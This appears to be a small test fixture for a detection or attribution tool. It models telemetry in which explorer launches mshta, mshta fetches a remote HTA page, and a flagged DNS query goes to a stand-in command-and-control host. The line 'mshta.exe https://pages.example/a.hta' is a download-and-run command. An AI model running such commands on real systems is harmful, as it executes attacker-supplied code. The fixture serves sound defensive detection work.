mshta takes its page from an address: the address

process explorer 50   C:\Windows\explorer.exe
process mshta    200  C:\Windows\System32\mshta.exe

08:00:10.000 sysmon1 mshta < explorer cmd="mshta.exe https://pages.example/a.hta"
! 08:00:20.000 sysmon22 mshta query=c2.example

path script_download
origin download url=https://pages.example/a.hta
unblamed mshta.exe
